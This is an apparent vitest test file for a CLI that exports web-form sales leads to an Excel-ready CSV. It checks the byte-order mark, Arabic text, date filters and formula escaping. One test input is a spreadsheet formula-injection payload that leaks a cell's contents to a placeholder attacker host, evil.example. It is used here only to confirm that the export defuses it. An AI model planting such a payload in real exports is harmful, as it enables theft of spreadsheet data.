// `pnpm leads csv`: the leads as sales open them in a spreadsheet, on both engines, as the built
// command line writes them.
import { parse } from 'csv-parse/sync';
import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { ACCESS_KEY, ENGINES, contactFields, postMultipart, startServices, track } from './helpers';

const LEADS = join(import.meta.dirname, '..', 'dist', 'bin', 'leads.js');

/** Runs the built `pnpm leads csv` on a store; standard output as bytes. */
async function leadsCsv(where: { outboxDir: string; databaseUrl?: string }, args: string[] = []) {
  const { stdout } = await promisify(execFile)(process.execPath, [LEADS, 'csv', ...args], {
    env: {
      ...process.env,
      FORMS_OUTBOX: where.outboxDir,
      DATABASE_URL: where.databaseUrl ?? '',
      SMTP_URL: '',
    },
    encoding: 'buffer',
  });
  return stdout;
}

/** The CSV's rows as a spreadsheet reads them (RFC 4180, CRLF lines), header first. */
const rowsOf = (bytes: Buffer): string[][] =>
  parse(bytes.subarray(3).toString('utf8'), { record_delimiter: '\r\n' });

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

describe.each(ENGINES)('pnpm leads csv (%s)', (engine) => {
  it('writes every lead as a row sales can open in Excel: BOM, Arabic intact, union of fields, formulas defused', async () => {
    const services = track(await startServices({ engine }));
    const sent = [
      contactFields('lina@corp.ae', { name: 'لينا الحداد', message: 'سطر أول\nسطر ثانٍ' }),
      contactFields('mallory@x.ae', { name: FORMULA_NAME, phone: '+971 50 123 4567' }),
    ];
    for (const fields of sent)
      expect((await postMultipart(`${services.url}/api/submit`, fields)).status).toBe(200);
    await postMultipart(`${services.url}/send-lead.php`, {
      name: 'Omar',
      email: 'omar@noon.com',
      company: 'noon.com',
    });
    const kept = await services.leads();
    // The formula in a name holds that lead as spam: `--all` takes held leads too.
    const output = await leadsCsv(await services.storeWhere(), ['--all']);

    expect([...output.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(output.toString('utf8')).toMatch(/\r\n$/);
    const [header = [], ...rows] = rowsOf(output);
    expect(header.slice(0, 4)).toEqual(['received', 'form', 'reference', 'reply by']);
    const names = new Set(kept.flatMap((lead) => Object.keys(lead.fields)));
    names.delete('reference');
    expect(new Set(header.slice(4))).toEqual(names);
    expect(header).not.toContain(ACCESS_KEY);
    expect(rows).toHaveLength(kept.length);

    const row = (reference: string) => {
      const found = rows.find((cells) => cells[2] === reference) ?? [];
      return Object.fromEntries(header.map((name, i) => [name, found[i]]));
    };
    for (const lead of kept) {
      const cells = row(lead.reference);
      expect(cells).toMatchObject({ received: lead.receivedAt, form: lead.form });
      for (const name of header.slice(4)) {
        const value = lead.fields[name] ?? '';
        // A cell a spreadsheet would run as a formula is kept as text, behind a quote mark.
        expect(cells[name]).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      }
    }
    const arabic = kept.find((lead) => lead.fields.email === 'lina@corp.ae');
    const arabicRow = row(arabic?.reference ?? '');
    expect(arabicRow.name).toBe('لينا الحداد');
    // A cell of several lines stays one cell.
    expect(arabicRow.message).toMatch(/^سطر أول\r?\nسطر ثانٍ$/);
    const mallory = kept.find((lead) => lead.fields.email === 'mallory@x.ae');
    expect(row(mallory?.reference ?? '')).toMatchObject({
      name: `'${FORMULA_NAME}`,
      phone: "'+971 50 123 4567",
    });
    expect(row(kept.find((lead) => lead.form === 'checklist')?.reference ?? '').company).toBe(
      'noon.com',
    );
  });

  it('takes only the leads received since a Dubai day, and held leads only with --all', async () => {
    const services = track(await startServices({ engine }));
    await postMultipart(`${services.url}/api/submit`, contactFields('lina@corp.ae'));
    await postMultipart(`${services.url}/api/submit`, contactFields('bot@mailinator.com'));
    const where = await services.storeWhere();
    const today = new Date(Date.now() + 4 * 3_600_000).toISOString().slice(0, 10);
    const rows = rowsOf(await leadsCsv(where, ['--since', today]));
    expect(rows).toHaveLength(2);
    expect(rows.flat()).not.toContain('bot@mailinator.com');
    expect(rowsOf(await leadsCsv(where, ['--since', '2099-01-01']))).toEqual([
      ['received', 'form', 'reference', 'reply by'],
    ]);
    expect(rowsOf(await leadsCsv(where, ['--all', '--since', today])).flat()).toContain(
      'bot@mailinator.com',
    );
    await expect(leadsCsv(where, ['--since', '2026-02-30'])).rejects.toMatchObject({ code: 2 });
  });
});
